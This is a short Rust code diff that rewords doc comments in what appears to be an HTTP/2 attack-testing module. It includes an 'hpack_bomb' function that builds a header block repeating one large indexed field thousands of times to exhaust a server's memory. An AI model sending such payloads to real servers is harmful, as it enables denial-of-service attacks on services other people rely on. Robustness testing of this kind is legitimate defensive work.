@@ -1,4 +1,4 @@
-//! The scripts.
+//! The scripts of the attacks.
 
 use std::time::Duration;
 
@@ -20,7 +20,7 @@ fn get(stream: u32) -> Vec<u8> {
     headers(stream, hpack::get("/")).end_stream().end_headers().bytes()
 }
 
-/// Returns a request whose content is still to come.
+/// Returns a request whose content follows.
 fn post(stream: u32) -> Vec<u8> {
     headers(stream, hpack::request("POST", "/")).end_headers().bytes()
 }
@@ -30,8 +30,8 @@ fn two(mut first: Vec<u8>, second: &frames::Frame) -> Vec<u8> {
     first
 }
 
-/// Returns a block that enters a large field once and then names it again and again: 4 KiB of list
-/// for each byte.
+/// Returns a block that inserts a large field into the dynamic table once and then repeats it by
+/// its index: 4 KiB of header list for each byte.
 fn hpack_bomb(stream: u32) -> Vec<u8> {
     let block = Block::new().raw(hpack::get("/")).literal_indexed("x-bomb", "b".repeat(4000));
     let block = (0..8000).fold(block, |block, _| block.indexed(62));
